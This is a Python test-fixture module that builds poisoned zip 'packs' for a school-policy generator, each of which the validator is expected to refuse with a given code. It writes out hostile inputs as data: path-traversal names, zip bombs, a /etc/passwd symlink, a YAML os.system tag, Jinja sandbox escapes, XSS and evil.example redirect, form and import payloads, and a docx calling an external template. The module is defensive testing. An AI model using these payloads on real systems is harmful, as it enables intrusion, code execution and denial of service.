"""Packs that nobody should take in, each made from a good one by spoiling one thing.

`archives` are refused for what the zip is, `contents` for what is in files that the list of the pack describes truly.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator, Mapping
from typing import Any

import msgspec
from msgspec.structs import replace

from aupgen.packs.archive import read_archive
from aupgen.packs.contents import write_pack
from aupgen.packs.record import RECORD, PackRecord, listed, record_text

Poisons = Iterator[tuple[str, bytes, str]]
"""Name, bytes, and the code that each is refused with."""


class Raw(msgspec.Struct):
    """A zip member as it is to be written, true or not: what is None is as it should be."""

    name: bytes
    data: bytes
    local: dict[str, Any] = {}
    central: dict[str, Any] = {}
    packed: bytes | None = None
    method: int = 8
    flags: int = 0x800
    extra: bytes = b""
    comment: bytes = b""
    attributes: int = 0
    local_name: bytes | None = None
    offset: int | None = None
    gap: bytes = b""


def raw_zip(
    members: list[Raw],
    *,
    before: bytes = b"",
    after: bytes = b"",
    count: int | None = None,
    comment: bytes = b"",
) -> bytes:
    """The bytes of a zip, lies and all."""
    out, directory, written = before, b"", 0
    for member in members:
        compressor = zlib.compressobj(6, zlib.DEFLATED, -15)
        packed = member.packed
        if packed is None:
            packed = (
                compressor.compress(member.data) + compressor.flush() if member.method == 8 else member.data
            )
        true = {
            "crc": zlib.crc32(member.data),
            "packed": len(packed),
            "size": len(member.data),
            "time": 0,
            "date": 0x21,
        }
        here, there = {**true, **member.local}, {**true, **member.central}
        local_name = member.name if member.local_name is None else member.local_name
        out += member.gap
        offset = len(out) if member.offset is None else member.offset
        out += struct.pack(
            "<4s5H3L2H", b"PK\x03\x04", 20, here.get("flags", member.flags), member.method, here["time"], here["date"],
            here["crc"], here["packed"], here["size"], len(local_name), 0,
        ) + local_name + packed  # fmt: skip
        directory += struct.pack(
            "<4s6H3L5H2L", b"PK\x01\x02", 20, 20, member.flags, member.method, there["time"], there["date"],
            there["crc"], there["packed"], there["size"], len(member.name), len(member.extra), len(member.comment), 0, 0,
            member.attributes, offset,
        ) + member.name + member.extra + member.comment  # fmt: skip
        written += 1
    many = written if count is None else count
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, many, many, len(directory), len(out), len(comment))
    return out + directory + end + comment + after


def archives(good: bytes) -> Poisons:
    """Packs whose zip is not as aupgen writes it."""
    files = read_archive(good)
    members = [Raw(name.encode(), data) for name, data in list(files.items())[:6]]

    def beside(*more: Raw, **how: Any) -> bytes:
        return raw_zip([*members, *more], **how)

    bad_names = {
        "slip": b"../evil.yaml", "slip in the middle": b"clauses/../../evil.yaml", "slip at the end": b"clauses/..",
        "dot": b"./clauses/x.yaml", "absolute": b"/etc/cron.d/x", "backslash slip": b"..\\evil.yaml",
        "backslash": b"clauses\\x.yaml", "drive": b"C:/x.yaml", "drive without slash": b"c:x.yaml",
        "share": b"//server/share/x.yaml", "share with backslashes": b"\\\\server\\x.yaml",
        "empty name": b"", "empty part": b"clauses//x.yaml", "folder": b"clauses/", "nul": b"clauses/x.yaml\0.txt",
        "line feed": b"clauses/x\n.yaml", "escape": b"clauses/\x1b[2Jx.yaml", "not utf-8": b"clauses/\xff\xfe.yaml",
        "bidi": "clauses/\u202elmay.x".encode(), "zero width": "clauses/a\u200bb.yaml".encode(),
        "device": b"clauses/con.yaml", "device alone": b"nul", "device with a superscript": "com¹.yaml".encode(),
        "printer": b"schools/lpt1.yaml", "stream": b"clauses/x.yaml:stream", "trailing stop": b"clauses/x.yaml.",
        "trailing space": b"clauses/x.yaml ", "hidden": b".git/config", "hidden file": b"schools/.x.yaml",
        "long": b"clauses/" + b"a" * 120 + b".yaml", "deep": b"a/b/c/d/e.yaml", "capital": b"clauses/X.yaml",
        "not ascii": "clauses/é.yaml".encode(), "tilde": b"~/x.yaml", "percent": b"clauses/%2e%2e.yaml",
        "wildcard": b"clauses/*.yaml", "pipe": b"clauses/a|b.yaml",
    }  # fmt: skip
    for what, name in bad_names.items():
        yield what, beside(Raw(name, b"x: y\n")), "AUP602"

    clause = members[-1]
    yield "the same name twice", beside(Raw(clause.name, b"other")), "AUP603"
    yield "the same name in capitals", beside(Raw(clause.name.upper(), b"other")), "AUP603"
    yield "the same name in full width", beside(Raw(clause.name.replace(b"a", "ａ".encode()), b"")), "AUP603"
    yield (
        "the same name composed and decomposed",
        beside(Raw("clauses/é.yaml".encode(), b"a"), Raw("clauses/e\u0301.yaml".encode(), b"b")),
        "AUP603",
    )
    yield "a file and a folder at once", beside(Raw(b"schools", b""), Raw(b"schools/x.yaml", b"")), "AUP603"
    yield "two records", beside(Raw(RECORD.encode(), b"{}")), "AUP603"

    yield "link", beside(Raw(b"clauses/x.yaml", b"/etc/passwd", attributes=0o120777 << 16)), "AUP602"
    yield "device file", beside(Raw(b"clauses/x.yaml", b"", attributes=0o020666 << 16)), "AUP602"
    yield "named pipe", beside(Raw(b"clauses/x.yaml", b"", attributes=0o010666 << 16)), "AUP602"
    yield "folder by its mark", beside(Raw(b"clauses/x.yaml", b"", attributes=0x10)), "AUP602"
    yield "setuid", beside(Raw(b"clauses/x.yaml", b"", attributes=0o104755 << 16)), "AUP601"
    yield "encrypted", beside(Raw(b"clauses/x.yaml", b"secret", flags=0x801)), "AUP602"

    million = b"\0" * 1_900_000
    yield "bomb by ratio", beside(Raw(b"clauses/x.yaml", million)), "AUP604"
    yield "bomb by size", beside(Raw(b"clauses/x.yaml", b"\0" * 3_000_000)), "AUP604"
    yield "bomb by sum", beside(*(
        Raw(b"clauses/x%d.yaml" % n, b"a" * 1_900_000, packed=b"\0" * 20_000) for n in range(6)
    )), "AUP604"  # fmt: skip
    yield "bomb by count", raw_zip([Raw(b"clauses/x%d.yaml" % n, b"") for n in range(600)]), "AUP604"
    yield (
        "bomb that says it is small",
        beside(Raw(b"clauses/x.yaml", million, local={"size": 9}, central={"size": 9})),
        "AUP604",
    )
    yield (
        "bomb of overlapping files",
        beside(*(Raw(b"clauses/x%d.yaml" % n, b"aaaa", offset=0) for n in range(40))),
        "AUP601",
    )
    yield "bomb in one large file", b"PK\x03\x04" + b"\0" * 9_000_000, "AUP604"

    lies = Raw(b"clauses/x.yaml", b"topic: x\n")
    for what, key in (("crc", "crc"), ("packed size", "packed"), ("size", "size"), ("date", "date")):
        yield f"local header lies about the {what}", beside(replace(lies, local={key: 7})), "AUP601"
    yield (
        "header lies about the size",
        beside(replace(lies, local={"size": 7}, central={"size": 7})),
        "AUP604",
    )
    yield (
        "header says more than there is",
        beside(replace(lies, local={"size": 99}, central={"size": 99})),
        "AUP604",
    )
    yield "header lies about the crc", beside(replace(lies, local={"crc": 7}, central={"crc": 7})), "AUP605"
    yield "local header gives another name", beside(replace(lies, local_name=b"clauses/y.yaml")), "AUP601"
    yield "local header gives another flag", beside(replace(lies, local={"flags": 0})), "AUP601"
    yield "month 0", beside(replace(lies, local={"date": 0}, central={"date": 0})), "AUP601"
    yield "size after the contents", beside(replace(lies, flags=0x808)), "AUP601"
    yield "unknown method", beside(replace(lies, method=12, packed=b"xxxx")), "AUP601"
    yield "damaged contents", beside(replace(lies, packed=b"\xff" * 11)), "AUP605"
    yield (
        "bytes after the contents of a file",
        beside(replace(lies, packed=_deflated(b"topic: x\n") + b"more")),
        "AUP605",
    )
    yield "extra field", beside(replace(lies, extra=b"\x01\0\0\0")), "AUP601"
    yield "extra field with another name", beside(replace(lies, extra=b"up\x05\0\x01aaaa")), "AUP601"
    yield "comment on a file", beside(replace(lies, comment=b"hello")), "AUP601"
    yield "a gap between files", beside(replace(lies, gap=b"#!/bin/sh\n")), "AUP601"
    yield "a file out of the directory's reach", beside(replace(lies, offset=4_000_000)), "AUP601"

    yield "comment", beside(comment=b"hello"), "AUP601"
    yield "comment that is a zip of its own", beside(comment=good[:60_000]), "AUP601"
    yield "bytes before", beside(before=b"#!/bin/sh\nexit\n"), "AUP601"
    yield "bytes after", beside(after=b"more"), "AUP601"
    yield "two zips, one after the other", good + good, "AUP601"
    yield "fewer files than said", beside(count=50), "AUP601"
    yield "more files than said", beside(count=3), "AUP601"
    yield "no file", raw_zip([]), "AUP601"
    yield "nothing", b"", "AUP601"
    yield "text", b"name: Oakfield\n", "AUP601"
    yield "a web page", b"<!DOCTYPE html><p>Not found</p>", "AUP601"
    yield "cut in the middle", good[: len(good) // 2], "AUP601"
    yield "cut at the end", good[:-1], "AUP601"
    yield "without its beginning", good[100:], "AUP601"
    yield "one bit turned", good[:9_000] + bytes([good[9_000] ^ 1]) + good[9_001:], "AUP6"
    yield "zip64 locator", good[:-22] + b"PK\x06\x07" + b"\0" * 16 + good[-22:], "AUP601"
    yield (
        "zip64 sizes",
        beside(replace(lies, local={"size": 0xFFFFFFFF}, central={"size": 0xFFFFFFFF})),
        "AUP601",
    )
    yield "zip64 count", good[:-14] + b"\xff\xff\xff\xff" + good[-10:], "AUP601"
    yield "several disks", good[:-18] + b"\x01\0" + good[-16:], "AUP601"
    yield "packed by another program", _packed_again(files), "AUP601"
    yield "a Word file", files["documents/staff-policy.docx"], "AUP6"


def _deflated(data: bytes) -> bytes:
    compressor = zlib.compressobj(6, zlib.DEFLATED, -15)
    return compressor.compress(data) + compressor.flush()


def _packed_again(files: Mapping[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as again:
        for name, data in files.items():
            again.writestr(name, data)
    return out.getvalue()


# ------------------------------------------------------------------ lists and files that lie


def with_record(files: Mapping[str, bytes], **changed: Any) -> bytes:
    """A pack of some files whose list describes them truly, but for what is changed in it."""
    record = msgspec.json.decode(files[RECORD], type=PackRecord)
    others = {name: data for name, data in files.items() if name != RECORD}
    return write_pack(replace(record, files=listed(others), **changed), others)


def lists(good: bytes) -> Poisons:
    """Packs whose list is not true, or whose files no pack holds."""
    files = dict(read_archive(good))
    record = msgspec.json.decode(files[RECORD], type=PackRecord)
    others = {name: data for name, data in files.items() if name != RECORD}
    yield "a file changed", write_pack(record, {**others, "clauses/roles.yaml": b"roles: []\n"}), "AUP605"
    yield "a file added", write_pack(record, {**others, "clauses/extra.yaml": b"topic: x\n"}), "AUP605"
    yield (
        "a file missing",
        write_pack(record, {k: v for k, v in others.items() if k != "starter.yaml"}),
        "AUP605",
    )
    for what, text in (
        ("empty", b""), ("not json", b"{"), ("a list", b"[]"), ("another record", b'{"a": 1}'),
        ("deeply nested", b"".join(b"[%d," % n for n in range(50_000))), ("with a key twice", record_text(record).replace(b'"format"', b'"format": 1, "format"', 1)),
        ("with a key of its own", record_text(record).replace(b'"format"', b'"run": "sh", "format"', 1)),
        ("written otherwise", record_text(record).replace(b"\n", b" ")), ("not utf-8", b"\xff\xfe"),
    ):  # fmt: skip
        yield f"a record that is {what}", _zip({RECORD: text, **others}), "AUP605"
    yield "no record", _zip(others), "AUP605"
    yield "a newer format", with_record(files, format=2), "AUP606"
    yield "an exemplar by a path", with_record(files, exemplar="../southend"), "AUP605"
    yield "an exemplar that is not there", with_record(files, exemplar="northend"), "AUP606"
    for what, name in (
        ("a program", "install.sh"), ("python", "clauses/x.py"), ("a macro document", "documents/x.docm"),
        ("a zip in it", "documents/more.zip"), ("a build file", "pyproject.toml"), ("a script", "templates/x.js"),
        ("a profile elsewhere", "x.yaml"), ("a second list", "documents/pack.json"), ("a picture", "templates/logo.svg"),
    ):  # fmt: skip
        yield what, with_record({**files, name: b"x"}), "AUP602"
    without = {k: v for k, v in files.items() if k != "templates/reference.docx"}
    yield "no Word look", with_record(without), "AUP606"


def _zip(files: Mapping[str, bytes]) -> bytes:
    from aupgen.writers.package import member, write_package

    return write_package([member(name, data) for name, data in files.items()])


# ------------------------------------------------------------------ texts that would do harm


def contents(good: bytes) -> Poisons:
    """Packs that are whole and true, and hold texts that no library may hold."""
    files = dict(read_archive(good))

    def instead(name: str, data: bytes, old: bytes = b"") -> bytes:
        return with_record({**files, name: files.get(name, b"").replace(old, data, 1) if old else data})

    passwords = "clauses/passwords.yaml"
    yaml = {
        "aliases without end": b"a: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]\n",
        "a tag": b"topic: !!python/object/apply:os.system [id]\n", "not utf-8": b"topic: \xff\n",
        "utf-16": "topic: passwords\n".encode("utf-16"), "a control character": b'topic: "\\0"\n',
        "brackets without end": b"a: " + b"".join(b"[%d," % n for n in range(50_000)), "nothing": b"", "a list": b"- a\n- b\n",
        "a Word file": files["documents/staff-policy.docx"], "a web page": b"<!DOCTYPE html>",
        "a second document": b"topic: x\n---\ntopic: y\n", "a million lines": b"".join(b"a%d: %d\n" % (n, n * 7919) for n in range(90_000)),
        "merge marks": b"<<<<<<< ours\ntopic: x\n=======\ntopic: y\n>>>>>>> theirs\n",
    }  # fmt: skip
    for what, data in yaml.items():
        yield f"clauses that are {what}", instead(passwords, data), "AUP1"
    text = b"tell anyone a password that the school has given {{ me }}"
    assert text in files[passwords] or b"{{ me }}" in files[passwords]
    yield "wording with a script", instead(passwords, b"<script>x</script> {{ me }}", b"{{ me }}"), "AUP503"
    yield "wording with a loop", instead(passwords, b"{% for a in b %}{% endfor %}", b"{{ me }}"), "AUP501"
    yield "wording with an escape", instead(passwords, b"{{ me.__class__ }}", b"{{ me }}"), "AUP50"
    yield (
        "wording with a link of another kind",
        instead(passwords, b"[x](javascript:alert)", b"{{ me }}"),
        "AUP503",
    )
    yield (
        "two clauses of one id",
        instead("clauses/x-extra.yaml", files[passwords].replace(b"topic: passwords", b"topic: x-extra")),
        "AUP207",
    )

    policy = "templates/staff-policy.md.j2"
    tail = files[policy]
    for what, call in (
        ("loops", b"{% for a in 'xxxxxxxxxx' %}{% for b in 'xxxxxxxxxx' %}x{% endfor %}{% endfor %}"),
        ("multiplies", b"{{ 'A' * 1000000000 }}"), ("defines", b"{% macro a() %}{{ a() }}{% endmacro %}"),
        ("sets", b"{% set a = 1 %}"), ("adds", b"{{ 1 + 1 }}"), ("escapes", b"{{ section.__globals__ }}"),
        ("calls what it is given", b"{{ school.name() }}"), ("imports", b"{% import 'page.css' as x %}"),
        ("tests", b"{% if 1 %}x{% endif %}"),
    ):  # fmt: skip
        yield f"a template that {what}", instead(policy, tail + b"\n" + call + b"\n"), "AUP"
    yield (
        "a part that includes itself twice",
        instead(
            "templates/_title-block.md.j2",
            b'{% include "_title-block.md.j2" %}{% include "_title-block.md.j2" %}\n',
        ),
        "AUP607",
    )

    page = "templates/page.html.j2"
    for what, html in (
        ("a script", b"<script>alert(1)</script>"), ("a frame", b'<iframe srcdoc="x"></iframe>'),
        ("an event", b'<p onclick="alert(1)">x</p>'), ("a picture from elsewhere", b'<img src="https://evil.example/x">'),
        ("a base", b'<base href="https://evil.example/">'), ("a form", b'<form action="https://evil.example"></form>'),
        ("a refresh", b'<meta http-equiv="refresh" content="0;url=https://evil.example">'),
        ("a second policy", b'<meta http-equiv="Content-Security-Policy" content="script-src *">'),
    ):  # fmt: skip
        yield f"a page with {what}", instead(page, b"<main>" + html, b"<main>"), "AUP607"
    yield "a page without its policy", instead(page, b"default-src *", b"default-src 'none'"), "AUP607"
    yield (
        "a look that loads",
        instead("templates/page.css", b"@import url(https://evil.example/x.css);\n"),
        "AUP607",
    )

    reference = "templates/reference.docx"
    yield "a look that is no Word file", instead(reference, b"PK\x03\x04 and no more"), "AUP607"
    yield (
        "a look with a macro",
        instead(reference, _docx(files[reference], {"word/vbaProject.bin": b"x"})),
        "AUP607",
    )
    outside = b'<Relationships><Relationship Id="x" TargetMode="External" Target="http://evil.example/a.dotm"/></Relationships>'
    yield (
        "a look that calls out",
        instead(reference, _docx(files[reference], {"word/_rels/settings.xml.rels": outside})),
        "AUP607",
    )
    entity = b'<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'
    yield (
        "a look with entities",
        instead(reference, _docx(files[reference], {"word/theme/theme2.xml": entity})),
        "AUP607",
    )
    yield (
        "a look that is a bomb",
        instead(reference, _docx(files[reference], {"word/x.xml": b"\0" * 30_000_000})),
        "AUP607",
    )

    southend = "schools/southend.yaml"
    school = b"name: Other School\nextends: southend\nphase: primary\n"
    yield (
        "an exemplar that is a school",
        with_record({**files, "schools/other.yaml": school}, exemplar="other"),
        "AUP606",
    )
    yield (
        "an exemplar that extends itself",
        instead(southend, b"kind: exemplar\nextends: southend", b"kind: exemplar"),
        "AUP223",
    )
    yield (
        "an exemplar that reaches out",
        instead(southend, b"kind: exemplar\nextends: ../../x.yaml", b"kind: exemplar"),
        "AUP231",
    )
    yield (
        "an exemplar with a script",
        instead(southend, b'name: "x\\u001b[2J"', b"name: Southend on Sea"),
        "AUP105",
    )
    yield (
        "an exemplar with no documents",
        instead(southend, b"\nvocabulary:\n", files[southend][files[southend].index(b"\ndocuments:") :]),
        "AUP606",
    )
    yield "questions of another shape", instead("templates/pack/questions.yaml", b"questions: x\n"), "AUP11"


def _docx(reference: bytes, more: Mapping[str, bytes]) -> bytes:
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(reference)) as old,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for name in old.namelist():
            new.writestr(name, old.read(name))
        for name, data in more.items():
            new.writestr(name, data)
    return out.getvalue()
